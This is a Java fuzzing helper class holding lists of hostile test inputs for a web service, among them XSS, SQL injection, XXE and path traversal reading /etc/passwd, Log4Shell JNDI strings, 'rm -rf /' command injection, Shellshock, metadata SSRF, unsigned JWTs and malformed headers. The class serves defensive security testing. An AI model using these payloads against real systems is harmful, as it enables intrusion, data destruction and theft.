package org.gongkai.fuzz;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;

/** Values that nobody sends in good faith, of public kinds and invented. */
final class Hostile {

  /** In every value that could be repeated as markup, code or a header; no product text has it. */
  static final String MARK = "gk7x";

  /** A header that no answer may have. */
  static final String INJECTED = "X-Injected";

  static final List<String> TEXTS =
      List.of(
          "<script>alert('gk7x')</script>",
          "\"><img src=x onerror=alert('gk7x')>",
          "<svg/onload=gk7x>",
          "]]><gk7x/><![CDATA[",
          "<!DOCTYPE gk7x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
          "' or '1'='1' -- gk7x",
          "'; drop table comment; -- gk7x",
          "1) union select null, version() -- gk7x",
          "gk7x\\'; select pg_sleep(9); --",
          "%' escape '' or true -- gk7x",
          "${jndi:ldap://example.invalid/gk7x}",
          "{{7*7}}gk7x",
          "#{7*7}gk7x",
          "%s%d%n%x{0}{1}gk7x",
          "=HYPERLINK(\"https://example.invalid/gk7x\")",
          "@SUM(1+1)*cmd|' /C calc'!A0 gk7x",
          "../../../../etc/passwd",
          "gk7x\r\nX-Injected: gk7x\r\n\r\n<html>",
          "gk7x\nERROR forged",
          "javascript:alert('gk7x')",
          "gk7x;rm -rf /;`id`$(id)",
          "\u0000",
          "gk7x\u0000gk7x",
          "\u0001\u0002\u001f",
          "\b\u0007\u001b[31mgk7x",
          "\u007f",
          "\u0085gk7x",
          "\u2028gk7x\u2029",
          "\ud800",
          "\udc00",
          "gk7x\udbff",
          "\udfff\ud800gk7x",
          "\ufeffgk7x",
          "\ufffe\uffff",
          "\ud83f\udffe",
          "\u202egk7x\u202c\u2066",
          "\u200b\u200d\u2060",
          "😀👨‍👩‍👧‍👦",
          "Z̴̡̛͖͇̦͔̈́̑̿a̷̧̧̛͙l̶̢̨̛g̷o",
          "𠮷𡃁",
          "ﷺ",
          "İıſK",
          "",
          " ",
          "\t\n",
          "\u3000",
          "null",
          "undefined",
          "true",
          "-1",
          "0",
          "NaN",
          "1e400",
          "9".repeat(5000),
          "0197a3c0-0000-7000-8000-000000000001",
          "1-1-1-1-1",
          "{0197a3c0-0000-7000-8000-000000000001}",
          "0197A3C0-0000-7000-8000-00000000000G",
          "2026-02-30",
          "9999-12-31T23:59:60Z",
          "+1000000000-12-31T23:59:59Z",
          "-999999999-01-01",
          "0000-01-01T00:00:00+18:00",
          "2026-04-01T00:00:00+99:99",
          "2026-04-01T00:00:00+08:00[Asia/Shanghai]",
          "http://169.254.169.254/gk7x",
          "file:///etc/passwd",
          "a".repeat(300),
          "中".repeat(501),
          "(".repeat(2000),
          "a".repeat(3000) + "!",
          " ".repeat(3000) + "x");

  /** JSON as it stands for a number. */
  static final List<String> NUMBERS =
      List.of(
          "0",
          "-0",
          "-1",
          "1",
          "101",
          "2147483647",
          "2147483648",
          "-2147483649",
          "9223372036854775807",
          "9223372036854775808",
          "-9223372036854775809",
          "1e400",
          "-1e400",
          "1e-400",
          "1E9",
          "1e999999999",
          "1.5",
          "1.0",
          "0.1",
          "9".repeat(900),
          "9".repeat(5000),
          "0." + "1".repeat(5000),
          "NaN",
          "-Infinity",
          "0x10",
          "01",
          "+1",
          ".5",
          "1.");

  /** JSON of another shape. */
  static final List<String> SHAPES =
      List.of(
          "null",
          "true",
          "[]",
          "{}",
          "[null]",
          "[[[[]]]]",
          "{\"extra\":1}",
          "{\"@type\":\"java.lang.Runtime\"}",
          "{\"__proto__\":{\"extra\":1}}",
          "[1,\"extra\",null,{}]",
          "\"extra\"",
          "undefined",
          "'extra'",
          "/*extra*/1",
          "[".repeat(900) + "]".repeat(900),
          "[".repeat(10_000) + "]".repeat(10_000),
          "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000),
          "[".repeat(10_000));

  /** Segments of paths, percent-encoded where they must be, that an identifier may stand for. */
  static final List<String> SEGMENTS =
      List.of(
          "%00",
          "gk7x%00",
          "%0d%0aX-Injected:%20gk7x",
          "%ff",
          "%c0%ae%c0%ae",
          "%ed%a0%80",
          "%f4%90%80%80",
          "%e2%80%ae",
          "%252e%252e%252f",
          "%3Cscript%3Egk7x%3C%2Fscript%3E",
          "%27%20or%201=1--gk7x",
          "1-1-1-1-1",
          "00000000-0000-0000-0000-000000000000",
          "ffffffff-ffff-ffff-ffff-ffffffffffff",
          "0197A3C0-0000-7000-8000-000000000001",
          "0197a3c0000070008000000000000001",
          "0",
          "-1",
          "+1",
          "1e3",
          "0x1",
          "2147483647",
          "2147483648",
          "9223372036854775808",
          "1949",
          "2200",
          "2201",
          "null",
          "*",
          "%2a",
          "a".repeat(300),
          "%e4%b8%ad".repeat(200),
          "9".repeat(5000),
          "gk7x+gk7x%20gk7x",
          "~!$&'()*+,=:@",
          "%7B%7D",
          "%24%7Bgk7x%7D",
          "con",
          ".htaccess",
          "...");

  /** What comes instead of a path, or beside it; it may be the path of something else. */
  static final List<String> TRICKS =
      List.of(
          "/..",
          "/.",
          "//",
          "/../../../etc/passwd",
          "/..%2f..%2fetc%2fpasswd",
          "/%2e%2e/%2e%2e/",
          "/..;/",
          ";a=b",
          ";jsessionid=gk7x",
          "%2f",
          "%5c..%5c",
          "\\..\\",
          "/%",
          "%zz",
          "%u0041",
          "%0",
          ".json",
          ".xml",
          "~",
          "%20",
          "#gk7x",
          "?",
          "??",
          "?&&=&=gk7x",
          "?%00=%00",
          "?a=%zz",
          "?%ff=%ff",
          "?" + "a=1&".repeat(1500),
          "?a=" + "1".repeat(9000),
          "/" + "a/".repeat(3000));

  /** Whole headers, each read by somebody on the way. */
  static final List<String> HEADERS =
      headers(
          "Accept-Language: gk7x",
          "Accept-Language: ;;;",
          "Accept-Language: en;q=9999999999999999999",
          "Accept-Language: " + "en,".repeat(1000),
          "Accept-Language: \u00ff\u0000",
          "Accept-Language: zh-CN-x-" + "a".repeat(2000),
          "Accept: gk7x",
          "Accept: text/html",
          "Accept: application/json;q=x",
          "Accept: */*;q=0",
          "Accept: " + "a/b,".repeat(1000),
          "Accept: application/xml",
          "Accept: ;",
          "Accept:",
          "Accept-Encoding: gk7x",
          "Accept-Encoding: identity;q=0",
          "Accept-Encoding: *;q=0",
          "Accept-Encoding: gzip;q=2",
          "Accept-Encoding: " + "gzip,".repeat(800),
          "Accept-Charset: utf-7",
          "If-None-Match: *",
          "If-None-Match: \"",
          "If-None-Match: W/",
          "If-None-Match: " + "\"a\",".repeat(1500),
          "If-None-Match: <script>gk7x</script>",
          "If-Modified-Since: gk7x",
          "If-Modified-Since: Sat, 31 Feb 2026 25:61:61 GMT",
          "If-Range: \"gk7x",
          "Range: bytes=9223372036854775808-",
          "Range: bytes=0-0,1-1,2-2",
          "Range: bytes=-0",
          "Range: gk7x=1",
          "Cookie: gk7x=\"; q_session=gk7x",
          "Origin: null",
          "Origin: https://gk7x.example.invalid",
          "Referer: <script>gk7x</script>",
          "User-Agent: ${jndi:ldap://example.invalid/gk7x}",
          "User-Agent: () { :;}; gk7x",
          "X-Forwarded-For: gk7x, 127.0.0.1",
          "X-Forwarded-For: " + "1.1.1.1,".repeat(800),
          "X-Forwarded-Proto: javascript",
          "X-Forwarded-Host: gk7x.example.invalid",
          "X-Forwarded-Prefix: /gk7x/..",
          "Forwarded: for=\"[gk7x\";host=gk7x",
          "X-HTTP-Method-Override: DELETE",
          "X-Original-URL: /q/health",
          "traceparent: 00-" + "f".repeat(32) + "-" + "f".repeat(16) + "-ff",
          "traceparent: gk7x",
          "traceparent: 00-00000000000000000000000000000000-0000000000000000-00",
          "tracestate: " + "a=b,".repeat(500),
          "baggage: gk7x=%zz",
          "Authorization: Basic Z2s3eDpnazd4",
          "Authorization: Bearer",
          "Authorization: Bearer ",
          "Authorization: Bearer gk7x.gk7x.gk7x",
          "Authorization: Bearer e30.e30.",
          "Authorization: Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJnazd4In0.",
          "Authorization: Bearer " + "a".repeat(6000),
          "Authorization: \u0000");

  /** Headers that decide whether a write is taken. */
  static final List<String> CONDITIONS =
      headers(
          "If-Match:",
          "If-Match: \"",
          "If-Match: gk7x",
          "If-Match: W/\"v0\"",
          "If-Match: \"v-1\"",
          "If-Match: \"v9223372036854775808\"",
          "If-Match: \"v1e3\"",
          "If-Match: \"v\u00ff\"",
          "If-Match: \"v0\", \"v1\", *",
          "If-Match: " + "\"v0\",".repeat(1000),
          "If-Match: <script>gk7x</script>",
          "Idempotency-Key:",
          "Idempotency-Key: short",
          "Idempotency-Key: " + "k".repeat(128),
          "Idempotency-Key: " + "k".repeat(129),
          "Idempotency-Key: \u00e4\u00f6\u00fc\u00e4\u00f6\u00fc\u00e4\u00f6",
          "Idempotency-Key: gk7x' or 1=1 --",
          "Idempotency-Key: \"" + "g".repeat(20) + "\"",
          "Idempotency-Key: gk7xgk7x\u0001");

  static final List<String> CONTENT_TYPES =
      List.of(
          "Content-Type:",
          "Content-Type: gk7x",
          "Content-Type: ;",
          "Content-Type: /",
          "Content-Type: */*",
          "Content-Type: text/html",
          "Content-Type: application/xml",
          "Content-Type: application/json; charset=gk7x",
          "Content-Type: application/json; charset=",
          "Content-Type: application/json; charset=UTF-16",
          "Content-Type: application/json; charset=ISO-8859-1",
          "Content-Type: application/json; charset=\"",
          "Content-Type: text/plain; charset=gk7x",
          "Content-Type: text/csv; charset=UTF-32",
          "Content-Type: application/json, text/plain",
          "Content-Type: application/x-www-form-urlencoded",
          "Content-Type: multipart/form-data",
          "Content-Type: multipart/form-data; boundary=gk7x",
          "Content-Type: multipart/form-data; boundary=" + "b".repeat(500),
          "Content-Type: multipart/mixed; boundary=\"",
          "Content-Type: application/json;" + "a=b;".repeat(500),
          "Content-Type: application/problem+json",
          "Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document");

  /** Headers that speak about how the body is sent. */
  static final List<String> FRAMES =
      List.of(
          "Content-Length: -1",
          "Content-Length: gk7x",
          "Content-Length: 99999999999999999999",
          "Content-Length: 2147483648",
          "Transfer-Encoding: gk7x",
          "Transfer-Encoding: chunked, chunked",
          "Connection: gk7x, close",
          "Expect: gk7x",
          "Upgrade: websocket");

  static final List<String> METHODS =
      List.of("PUT", "POST", "DELETE", "GET", "HEAD", "OPTIONS", "PATCH", "TRACE", "GK7X", "get");

  /** Bytes that are no UTF-8, for the middle of a text. */
  static final List<byte[]> NO_UTF8 =
      List.of(
          new byte[] {(byte) 0xc0, (byte) 0x80},
          new byte[] {(byte) 0xc0, (byte) 0xae},
          new byte[] {(byte) 0xe0, (byte) 0x80, (byte) 0xaf},
          new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80},
          new byte[] {(byte) 0xed, (byte) 0xbf, (byte) 0xbf},
          new byte[] {(byte) 0xf4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
          new byte[] {(byte) 0xf8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
          new byte[] {(byte) 0xff, (byte) 0xfe},
          new byte[] {(byte) 0x80},
          new byte[] {(byte) 0xe4, (byte) 0xb8},
          new byte[] {0});

  private Hostile() {}

  static <T> T any(List<T> values, Random random) {
    return values.get(random.nextInt(values.size()));
  }

  /** A text about as long as is allowed, of characters of one, two or three bytes and of pairs. */
  static String ofLength(int length, Random random) {
    String unit = any(List.of("a", "é", "中", "😀", "<", "\"", " ", "e\u0301"), random);
    return unit.repeat(Math.max(0, length));
  }

  /** A text as a JSON literal; halves of pairs and control characters are escaped. */
  static String json(String text) {
    StringBuilder json = new StringBuilder("\"");
    text.chars()
        .forEach(
            c -> {
              if (c < 0x20 || c == '"' || c == '\\' || Character.isSurrogate((char) c)) {
                json.append(String.format("\\u%04x", c));
              } else {
                json.append((char) c);
              }
            });
    return json.append('"').toString();
  }

  /** Percent-encoded UTF-8; a half of a pair as if it were a character. */
  static String encoded(String text) {
    StringBuilder encoded = new StringBuilder();
    for (byte one : bytes(text)) {
      int b = one & 0xff;
      boolean plain = b < 0x80 && (Character.isLetterOrDigit(b) || "-._~".indexOf(b) >= 0);
      encoded.append(plain ? String.valueOf((char) b) : String.format("%%%02X", b));
    }
    return encoded.toString();
  }

  /** Not encoded, apart from what would end the line; one character for each byte. */
  static String raw(String text) {
    return new String(bytes(text), ISO_8859_1).replaceAll("[\\r\\n \\t]", "+");
  }

  private static byte[] bytes(String text) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    text.codePoints()
        .forEach(
            point -> {
              if (point >= 0xd800 && point <= 0xdfff) {
                bytes.write(0xe0 | (point >> 12));
                bytes.write(0x80 | ((point >> 6) & 0x3f));
                bytes.write(0x80 | (point & 0x3f));
              } else {
                bytes.writeBytes(Character.toString(point).getBytes(UTF_8));
              }
            });
    return bytes.toByteArray();
  }

  /** An object with many members. */
  static String wide(int members) {
    StringBuilder wide = new StringBuilder("{");
    IntStream.range(0, members)
        .forEach(
            i ->
                wide.append(i == 0 ? "" : ",").append("\"extra").append(i).append("\":").append(i));
    return wide.append('}').toString();
  }

  private static List<String> headers(String... headers) {
    return new ArrayList<>(List.of(headers));
  }
}
